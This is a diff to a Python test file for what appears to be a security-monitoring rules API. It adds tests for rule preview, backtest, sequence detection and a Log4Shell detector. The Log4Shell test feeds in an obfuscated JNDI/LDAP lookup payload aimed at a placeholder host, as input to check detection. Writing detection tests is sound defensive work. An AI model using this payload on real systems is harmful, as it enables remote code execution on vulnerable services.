@@ -98,6 +98,12 @@ def test_two_rules_about_one_user(sdk: SecurityMonitoringApi, client: httpx.Clie
     assert members["meta"]["total"] == 2
     assert {member["type"] for member in members["data"]} == {"signal"}
     assert sorted(member["id"] for member in members["data"]) == sorted(custom["correlation"]["signals"])
+    asked = {"rule": body, "from": "now-1h", "to": "now+1h"}
+    preview = client.post(f"{BASE}/rules/preview", json=asked).json()["data"]
+    assert [query["total"] for query in preview["queries"]] == [2, 1]
+    assert [shown["group"] for shown in preview["signals"]["shown"]] == [{"@usr.id": "bob"}]
+    backtest = client.post(f"{BASE}/rules/backtest", json={**asked, "against": both}).json()["data"]
+    assert (backtest["signals"], backtest["comparison"]["counts"]["same"]) == (1, 1)
     for wrong, said in (
         ({**body, "queries": [{**named[0], "ruleId": "zzz-zzz-zzz"}, named[1]]}, "There is no rule zzz-zzz-zzz"),
         ({**body, "queries": [{**named[0], "correlatedQueryIndex": 3}, named[1]]}, "none with the index 3"),
@@ -108,6 +114,60 @@ def test_two_rules_about_one_user(sdk: SecurityMonitoringApi, client: httpx.Clie
     assert cyclic.status_code == 400
     (_, said) = cyclic.json()["errors"]
     assert said == f"The rule would read its own signals without end: 'Both' ({both}) → 'Both' ({both})"
+
+
+def test_logs_and_signals_in_one_sequence(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
+    guessed = make(sdk, rule_body("Guessed", {"query": "source:guess", "groupByFields": ["@usr.id"]}))
+    body = rule_body(
+        "Guessed, then a key",
+        {"name": "guessed", "ruleId": guessed, "aggregation": "event_count", "correlatedByFields": ["@usr.id"]},
+        {"name": "made", "query": "source:key", "aggregation": "count", "groupByFields": ["@usr.id"]},
+        status="high",
+        type="log_detection",
+    )
+    steps = [{"name": name, "condition": f"{name} > 0", "evaluationWindow": 300} for name in ("guessed", "made")]
+    transition = {"parent": "guessed", "child": "made", "evaluationWindow": 3600}
+    options = {"steps": steps, "stepTransitions": [transition]}
+    body["options"] = {**WINDOWS, "detectionMethod": "sequence_detection", "sequenceDetectionOptions": options}
+    body["cases"][0]["condition"] = "made > 0"
+    rule = client.post(f"{BASE}/rules", json=body).json()
+    assert [query.get("ruleId") for query in rule["queries"]] == [guessed, None]
+    for source, users in (("guess", ("bob",)), ("key", ("bob", "eve"))):
+        logs = [{"ddsource": source, "message": source, "usr": {"id": user}} for user in users]
+        assert client.post("/api/v2/logs", json=logs).status_code == 202
+        until(lambda: signals_of(client, guessed))
+    (signal,) = until(lambda: signals_of(client, rule["id"]))
+    assert signal["attributes"]["custom"]["usr"] == {"id": "bob"}
+    (member,) = signal["attributes"]["custom"]["correlation"]["signals"]
+    found = client.get(f"{BASE}/signals/{signal['id']}/events").json()["data"]
+    assert [event["type"] for event in found] == ["signal", "log"] and found[0]["id"] == member
+    asked = {"rule": body, "from": "now-1h", "to": "now+1h"}
+    preview = client.post(f"{BASE}/rules/preview", json=asked).json()["data"]
+    assert ([query["total"] for query in preview["queries"]], preview["signals"]["total"]) == ([1, 2], 1)
+
+
+def test_log4shell_is_told_in_plain_text(sdk: SecurityMonitoringApi, client: httpx.Client) -> None:
+    body = rule_body("Log4Shell", {"query": "source:shop", "groupByFields": ["@usr.id"]}, status="medium")
+    body["options"] = {**WINDOWS, "detectionMethod": "hardcoded", "hardcodedEvaluatorType": "log4shell"}
+    rule = make(sdk, body)
+    read = client.get(f"{BASE}/rules/{rule}").json()["options"]
+    assert (read["detectionMethod"], read["hardcodedEvaluatorType"]) == ("hardcoded", "log4shell")
+    texts = (("eve", "%24%7B%24%7Blower:j%7Dndi:ldap://x.test/a%7D"), ("bob", "%24%7Bamount%7D"))
+    logs = [
+        {"ddsource": "shop", "message": "GET /", "usr": {"id": user}, "q": f"{user}={text}"} for user, text in texts
+    ]
+    assert client.post("/api/v2/logs", json=logs).status_code == 202
+    (signal,) = until(lambda: signals_of(client, rule))
+    custom = signal["attributes"]["custom"]
+    assert custom["usr"] == {"id": "eve"}
+    assert custom["log4shell"] == {"attribute": "@q", "lookup": "${jndi:ldap://x.test/a}"}
+    preview = client.post(f"{BASE}/rules/preview", json={"rule": body, "from": "now-1h", "to": "now+1h"}).json()["data"]
+    assert ([query["total"] for query in preview["queries"]], preview["signals"]["total"]) == ([1], 1)
+    why = client.post(
+        f"{BASE}/rules/{rule}/explain", json={"entity": {"@usr.id": "bob"}, "from": "now-1h", "to": "now"}
+    )
+    steps = {step["name"]: step["status"] for step in why.json()["data"]["attributes"]["steps"]}
+    assert (steps["query"], steps["recognised"]) == ("passed", "failed")
 
 
 def test_a_critical_asset_raises_what_it_is_about(
